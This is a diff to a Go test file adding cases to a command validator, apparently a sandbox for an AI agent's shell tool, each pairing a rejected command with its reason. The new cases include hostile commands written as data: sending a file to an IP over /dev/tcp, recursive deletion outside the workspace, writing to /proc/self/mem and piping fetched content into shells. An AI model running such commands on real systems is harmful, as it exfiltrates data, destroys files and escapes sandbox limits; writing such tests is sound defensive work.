@@ -74,6 +74,21 @@ var verdictCases = []verdictCase{
 	{command: "git clone https://github.com/x/y", reason: "git clone uses the network"},
 	{command: "ls && git status", reason: "git is not available"},
 
+	{command: "cat data.csv > /dev/tcp/1.2.3.4/80", reason: "is a network connection"},
+	{command: "find / -name x -exec rm {} +", reason: "find -exec runs commands"},
+	{command: "sed -i 's/a/b/' ~/.profile", reason: "sed arguments must be literal"},
+	{command: "touch ../../x", reason: "leaves the workspace with .."},
+	{command: "cp solution.py ~/x", reason: "cp arguments must be literal"},
+	{command: "echo ok; python3 -c 'import socket'", reason: "python3 -c runs code that is not kept"},
+	{command: "cat x | python3 -", reason: "python3 - is not allowed"},
+	{command: "ls | bash", reason: "running bash on a script file or on its input"},
+	{command: "echo $(pip install x)", reason: "pip is a package manager"},
+	{command: "head -c 10 /dev/urandom > /etc/x", reason: "/etc/x is outside the workspace"},
+	{command: "wc -l `wget -qO- x`", reason: "wget is a network tool"},
+	{command: "grep -r x . | xargs -I{} sh -c 'curl {}'", reason: "xargs may run only read-only tools"},
+	{command: "rm -rf /workspace/../../etc", reason: "outside the workspace"},
+	{command: "echo 'x' > /proc/self/mem", reason: "/proc/self/mem is outside the workspace"},
+
 	// Package managers.
 	{command: "pip install requests", reason: "pip is a package manager"},
 	{command: "python3 -m pip install requests", reason: "python3 -m pip is a package manager"},
